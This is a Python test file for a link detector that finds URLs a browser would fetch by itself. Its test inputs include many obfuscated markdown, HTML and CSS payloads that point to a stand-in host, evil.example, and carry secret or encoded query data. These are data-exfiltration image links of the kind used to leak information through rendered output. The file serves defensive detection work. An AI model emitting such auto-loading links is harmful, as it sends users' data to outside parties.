"""One reader of links, that goes where a browser goes."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from safecase.text import find_links
from safecase.text.links import UNREADABLE, host_of

EVIL = "https://evil.example/p.png?q=secret"


@pytest.mark.parametrize(
    "text",
    [
        "![x](http:///evil.example/p.png?d=QUJDREVGRw)",
        '<style>@import "//evil.example/x.css?d=QUJDREVGRw";</style>',
        '<p style="background:\\75rl(//evil.example/?d=QUJDREVGRw)">',
        "<p style='background:u\\72 l(//evil.example/?d=1)'>",
        "![x](https:/\\evil.example/x?d=QUJDREVGRw)",
        "![x](\\\\evil.example/x)",
        "![x](/\\evil.example/x)",
        f"![t]( {EVIL})",
        f"![t](<{EVIL}>)",
        f"<img src={EVIL}>",
        "![a](//evil.example/p.png?q=secret)",
        "![a](https://good.example@evil.example/?q=s)",
        '<img src="https&colon;//evil.example/?q=secret">',
        "![a](https&#58;//evil&#46;example/?q=secret)",
        f"<svg><image href='{EVIL}'/></svg>",
        f"<svg><image xlink:href='{EVIL}'/></svg>",
        f"<meta http-equiv=refresh content='0;url={EVIL}'>",
        f"<img srcset='a.png 1x, {EVIL} 2x'>",
        "![a](HTTPS://EVIL.EXAMPLE/?q=s)",
        "![a](https://evil\u200b.example/?q=s)",
        "![a](https://evil\u3002example/?q=s)",
        "![a](https://%65vil.example/)",
        '<img src="ht\ntps://ev\til.example/x">',
        '<img src="https:evil.example/x">',
        "<div style='background:image-set(\"//evil.example/x\" 1x)'>",
    ],
)
def test_what_a_browser_fetches_by_itself_is_seen(text: str) -> None:
    assert ("evil.example", True) in {(link.host, link.automatic) for link in find_links(text)}


@pytest.mark.parametrize(
    "text",
    [
        f"[here]({EVIL})",
        f"<a href='{EVIL}'>here</a>",
        f"![a][1]\n\n[1]: <{EVIL}>",
        f"see {EVIL} ok",
        "mailto:eve@evil.example?body=x",
    ],
)
def test_what_needs_a_click_is_seen(text: str) -> None:
    assert [(link.host, link.automatic) for link in find_links(text)] == [("evil.example", False)]


@pytest.mark.parametrize(
    "text",
    [
        "No links here.",
        "a = {'src': 'x: y'}",
        '<img src="/local.png">',
        "data = 'key: value'",
        "1 // 2",
        "C:\\dir",
    ],
)
def test_what_leads_nowhere_is_no_link(text: str) -> None:
    assert list(find_links(text)) == []


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://EVIL.net.:443/x", "evil.net"),
        ("https://例え.jp/", "xn--r8jz45g.jp"),
        ("http://0x7f.1/", "127.0.0.1"),
        ("www.shop.example/a", "www.shop.example"),
        ("/local", ""),
        ("javascript:alert(1)", ""),
        ("https://[::1/", UNREADABLE),
    ],
)
def test_the_host_is_the_one_that_a_browser_asks(url: str, host: str) -> None:
    assert host_of(url) == host


@given(st.text(st.sampled_from('![](<>"\\/:.&#;=a1 \nhttps@uw,'), max_size=120) | st.text(max_size=120))
def test_any_text_can_be_read_and_places_lie_in_it(text: str) -> None:
    for link in find_links(text):
        assert 0 <= link.start <= link.end <= len(text)


@given(st.text(max_size=60), st.text(max_size=60))
def test_a_link_stands_where_it_is_said_to(before: str, behind: str) -> None:
    text = f"{before}\n![x]({EVIL}) {behind}"
    assert EVIL in {text[link.start : link.end] for link in find_links(text)}


@pytest.mark.parametrize(
    "piece", ["![](", "src='a ", "&#1;", "\\7", "//", 'href="a,', "http:", "[]:", "@import "]
)
def test_time_grows_with_length_and_no_faster(piece: str) -> None:
    def seconds(length: int) -> float:
        text = (piece * length)[:length]
        started = time.process_time()
        sum(1 for _ in find_links(text))
        return time.process_time() - started

    seconds(1_000)
    quarter = seconds(15_000)
    assert seconds(60_000) < 16 * max(quarter, 0.05)
